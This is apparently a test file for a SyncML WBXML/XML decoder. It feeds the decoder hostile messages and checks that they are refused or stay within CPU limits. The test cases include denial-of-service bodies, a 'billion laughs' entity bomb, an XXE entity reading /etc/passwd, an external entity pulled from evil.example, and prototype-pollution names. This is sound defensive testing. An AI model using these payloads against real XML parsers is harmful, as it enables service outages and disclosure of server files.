/**
 * One message that costs more than it weighs. Each body is legal enough to be read to its end, or to the limit it breaks, and is of a size that
 * takes minutes where work grows with its square.
 */
import assert from 'node:assert/strict';
import { WireError, type WireFault } from '../../src/model/errors.js';
import { Tolerance } from '../../src/model/leniency.js';
import { decodeMessage } from '../../src/wire/decode.js';
import { DEFAULT_LIMITS, type Encoding } from '../../src/wire/dialect.js';
import { encodingOf } from '../../src/wire/media-type.js';
import { encodeMbUint32 } from '../../src/wire/wbxml/cursor.js';
import { GLOBAL, METINF, SYNCML } from '../../src/wire/wbxml/tables.js';

const MIB = 1024 * 1024;
const LIMITS = { ...DEFAULT_LIMITS, maxBytes: 16 * MIB, maxElements: 400_000 };
/** Processor time, which other processes on the machine do not count to. Where work is in proportion to size, less than a tenth is used. */
const MOST_CPU_MS = 15_000;

const open = (tag: number): number => (tag & 0x3f) | 0x40;
const repeat = (bytes: Uint8Array | readonly number[], times: number): Uint8Array =>
  Buffer.alloc(bytes.length * times, Uint8Array.from(bytes));
const number = (n: number): Uint8Array => Uint8Array.from(encodeMbUint32(n));

/** A WBXML message: string table, and what stands in the Data of an Add. */
function wbxml(parts: {
  readonly table?: Uint8Array;
  readonly data?: Uint8Array;
  readonly meta?: Uint8Array;
  readonly body?: Uint8Array;
}): Uint8Array {
  const { table = new Uint8Array(0), data, meta, body } = parts;
  const held = [
    ...(meta ? [Uint8Array.of(open(SYNCML.Meta), GLOBAL.switchPage, 1), meta, Uint8Array.of(GLOBAL.switchPage, 0, GLOBAL.end)] : []),
    ...(data ? [Uint8Array.of(open(SYNCML.Item), open(SYNCML.Data)), data, Uint8Array.of(GLOBAL.end, GLOBAL.end)] : []),
  ];
  return Buffer.concat([
    Uint8Array.of(2, 0xa4, 0x01, 0x6a),
    number(table.length),
    table,
    Uint8Array.of(open(SYNCML.SyncML), open(SYNCML.SyncHdr), GLOBAL.end, open(SYNCML.SyncBody)),
    ...(body ? [body] : [Uint8Array.of(open(SYNCML.Add)), ...held, Uint8Array.of(GLOBAL.end)]),
    Uint8Array.of(GLOBAL.end, GLOBAL.end),
  ]);
}
const xml = (body: string, root = ''): Uint8Array => Buffer.from(`<SyncML${root}><SyncHdr/><SyncBody>${body}</SyncBody></SyncML>`);
const inData = (text: string): Uint8Array => xml(`<Add><Item><Data>${text}</Data></Item></Add>`);
const inMeta = (text: string): Uint8Array => xml(`<Add><Meta>${text}</Meta></Add>`);

interface Case {
  readonly what: string;
  readonly encoding: Encoding;
  readonly body: () => Uint8Array;
  /** Undefined: it is read. */
  readonly fault?: WireFault;
}

const letter = [GLOBAL.strI, 0x61, 0];
const table = Buffer.concat([Buffer.alloc(MIB, 'a'), Uint8Array.of(0)]);
const CASES: readonly Case[] = [
  { what: 'content in a million pieces', encoding: 'wbxml', body: () => wbxml({ data: repeat(letter, 1_000_000) }) },
  {
    what: 'a digest in a million pieces',
    encoding: 'wbxml',
    body: () =>
      wbxml({
        meta: Buffer.concat([
          Uint8Array.of(open(METINF.NextNonce)),
          repeat([GLOBAL.opaque, 1, 0xff], 1_000_000),
          Uint8Array.of(GLOBAL.end),
        ]),
      }),
  },
  {
    what: 'a text in a million character references',
    encoding: 'wbxml',
    body: () => wbxml({ data: repeat([GLOBAL.entity, 0x41], 1_000_000) }),
  },
  {
    what: 'a hundred thousand references to a string table of a megabyte',
    encoding: 'wbxml',
    fault: 'too-large',
    body: () => wbxml({ table, data: repeat([GLOBAL.strT, 0], 100_000) }),
  },
  {
    what: 'references to a string table without an end of string',
    encoding: 'wbxml',
    fault: 'too-large',
    body: () => wbxml({ table: Buffer.alloc(8 * MIB, 'a'), data: repeat([GLOBAL.strT, 0], 100_000) }),
  },
  {
    what: 'tag names from a string table without an end of string',
    encoding: 'wbxml',
    body: () => wbxml({ table: Buffer.alloc(8 * MIB, 'a'), body: repeat([GLOBAL.literal, 0], 300_000) }),
  },
  {
    what: 'a reference past the end of the string table',
    encoding: 'wbxml',
    fault: 'malformed',
    body: () => wbxml({ table: Buffer.from('a\0'), data: Buffer.concat([Uint8Array.of(GLOBAL.strT), number(3)]) }),
  },
  {
    what: 'a tag name past the end of the string table',
    encoding: 'wbxml',
    fault: 'malformed',
    body: () => wbxml({ body: Buffer.concat([Uint8Array.of(GLOBAL.literal), number(0xffff_ffff)]) }),
  },
  {
    what: 'a string table that claims four gigabytes',
    encoding: 'wbxml',
    fault: 'truncated',
    body: () => Buffer.concat([Uint8Array.of(2, 0xa4, 0x01, 0x6a), number(0xffff_ffff)]),
  },
  {
    what: 'an OPAQUE that claims four gigabytes',
    encoding: 'wbxml',
    fault: 'truncated',
    body: () => wbxml({ data: Buffer.concat([Uint8Array.of(GLOBAL.opaque), number(0xffff_fff0)]) }),
  },
  {
    what: 'an integer above 32 bits',
    encoding: 'wbxml',
    fault: 'overflow',
    body: () => wbxml({ data: Uint8Array.of(GLOBAL.opaque, 0x90, 0x80, 0x80, 0x80, 0x00) }),
  },
  {
    what: 'an integer of more than five bytes',
    encoding: 'wbxml',
    fault: 'overflow',
    body: () => wbxml({ data: Uint8Array.of(GLOBAL.opaque, 0x80, 0x80, 0x80, 0x80, 0x80, 0x01) }),
  },
  { what: 'as many elements as are allowed', encoding: 'wbxml', body: () => wbxml({ body: repeat([SYNCML.Add], LIMITS.maxElements - 3) }) },
  {
    what: 'one element more',
    encoding: 'wbxml',
    fault: 'too-large',
    body: () => wbxml({ body: repeat([SYNCML.Add], LIMITS.maxElements - 2) }),
  },
  {
    what: 'elements nested as deep as allowed',
    encoding: 'wbxml',
    body: () => wbxml({ body: Buffer.concat([repeat([open(SYNCML.Sequence)], 62), repeat([GLOBAL.end], 62)]) }),
  },
  {
    what: 'one level more',
    encoding: 'wbxml',
    fault: 'too-deep',
    body: () => wbxml({ body: Buffer.concat([repeat([open(SYNCML.Sequence)], 63), repeat([GLOBAL.end], 63)]) }),
  },
  {
    what: 'a million levels',
    encoding: 'wbxml',
    fault: 'too-deep',
    body: () => wbxml({ body: repeat([open(SYNCML.Sequence)], 1_000_000) }),
  },
  {
    what: 'three hundred thousand entries of one list',
    encoding: 'wbxml',
    body: () => wbxml({ meta: repeat([METINF.EMI & 0x3f], 300_000) }),
  },
  { what: 'millions of code page switches', encoding: 'wbxml', body: () => wbxml({ data: repeat([GLOBAL.switchPage, 0], 5_000_000) }) },
  {
    what: 'millions of attributes',
    encoding: 'wbxml',
    body: () =>
      wbxml({
        body: Buffer.concat([Uint8Array.of(SYNCML.Add | 0x80), repeat([0x05, GLOBAL.strI, 0x78, 0], 3_000_000), Uint8Array.of(GLOBAL.end)]),
      }),
  },

  { what: 'content in three hundred thousand CDATA sections', encoding: 'xml', body: () => inData('<![CDATA[a]]>'.repeat(300_000)) },
  { what: 'content of two hundred thousand foreign elements', encoding: 'xml', body: () => inData('<a/>'.repeat(200_000)) },
  { what: 'two hundred thousand entries of one list', encoding: 'xml', body: () => inMeta('<EMI>a</EMI>'.repeat(200_000)) },
  {
    what: 'fifty thousand namespace prefixes and as many elements that use the last',
    encoding: 'xml',
    body: () => xml('<n49999:a/>'.repeat(50_000), Array.from({ length: 50_000 }, (_, i) => ` xmlns:n${i}="u"`).join('')),
  },
  {
    what: 'a hundred thousand attributes',
    encoding: 'xml',
    body: () => xml(`<Add${Array.from({ length: 100_000 }, (_, i) => ` a${i}="b"`).join('')}/>`),
  },
  { what: 'a million levels', encoding: 'xml', fault: 'too-deep', body: () => xml('<a>'.repeat(1_000_000)) },
  { what: 'as many elements as are allowed', encoding: 'xml', body: () => xml('<Add/>'.repeat(LIMITS.maxElements - 3)) },
  { what: 'one element more', encoding: 'xml', fault: 'too-large', body: () => xml('<Add/>'.repeat(LIMITS.maxElements - 2)) },
  { what: 'half a million comments', encoding: 'xml', body: () => xml('<!---->'.repeat(500_000)) },
  { what: 'a million character references', encoding: 'xml', body: () => inData('&#65;'.repeat(1_000_000)) },
  {
    what: 'entities that would multiply (a billion laughs)',
    encoding: 'xml',
    fault: 'malformed',
    body: () =>
      Buffer.from(
        `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "${`&a${i === 0 ? '' : i - 1};`.repeat(10)}">`).join('')}]><SyncML>&a8;</SyncML>`,
      ),
  },
  {
    what: 'an entity that names a file',
    encoding: 'xml',
    fault: 'malformed',
    body: () => Buffer.from('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><SyncML>&f;</SyncML>'),
  },
  {
    what: 'a parameter entity from elsewhere',
    encoding: 'xml',
    fault: 'malformed',
    body: () => Buffer.from('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><SyncML/>'),
  },
  { what: 'an entity nobody declared', encoding: 'xml', fault: 'malformed', body: () => inData('&undeclared;') },
  {
    what: 'a document type declaration without end',
    encoding: 'xml',
    fault: 'too-large',
    body: () => Buffer.from(`<!DOCTYPE ${'x'.repeat(MIB)}`),
  },
  {
    what: 'names of properties every object has',
    fault: 'malformed',
    encoding: 'xml',
    body: () => inData('<constructor a="b"/><toString/><hasOwnProperty/>'),
  },
];

describe('hostile messages to decode', function () {
  this.timeout(300_000);

  for (const { what, encoding, body, fault } of CASES) {
    it(`${encoding}: ${what} ${fault === undefined ? 'is read' : `is refused as ${fault}`}, and costs no more than it weighs`, () => {
      const bytes = body();
      assert.ok(bytes.length <= LIMITS.maxBytes, `${bytes.length} bytes`);
      const before = process.cpuUsage();
      let met: WireError | undefined;
      try {
        decodeMessage(bytes, encoding, LIMITS);
      } catch (error) {
        if (!(error instanceof WireError)) throw error;
        met = error;
      }
      const { user, system } = process.cpuUsage(before);
      assert.equal(met?.fault, fault, met?.message);
      assert.ok((user + system) / 1000 < MOST_CPU_MS, `${(user + system) / 1000} ms`);
    });
  }

  it('what stands before the root, where the body has to tell its encoding, costs no more than it weighs', () => {
    // Two ways to read each would be more than two to the power of 15: seconds.
    for (const [what, part] of [
      ['comments', '<!-- x -->'],
      ['comments in lines', '<!-- x -->\n'],
      ['declarations', '<!x>'],
      ['instructions', '<?x?>'],
      ['blanks', ' '.repeat(60)],
      ['beginnings', '<!--'],
    ] as const) {
      const before = process.cpuUsage();
      for (const root of ['', '<x>', '<SyncML>']) {
        const told = encodingOf('text/xml', Buffer.from(part.repeat(15) + root), new Tolerance(false));
        assert.equal(told, root === '<SyncML>' && part !== '<!--' ? 'xml' : undefined, `${what} ${root}`);
      }
      const { user } = process.cpuUsage(before);
      assert.ok(user / 1000 < 1000, `${what}: ${user / 1000} ms`);
    }
  });

  it('no name in a message becomes a property of every object', () => {
    for (const markup of [
      '<__proto__><polluted>1</polluted></__proto__>',
      '<constructor><prototype polluted="1"/></constructor>',
      '<a __proto__="x"/>',
    ])
      assert.throws(() => decodeMessage(inData(markup), 'xml', LIMITS), WireError);
    assert.equal('polluted' in {}, false);
  });
});
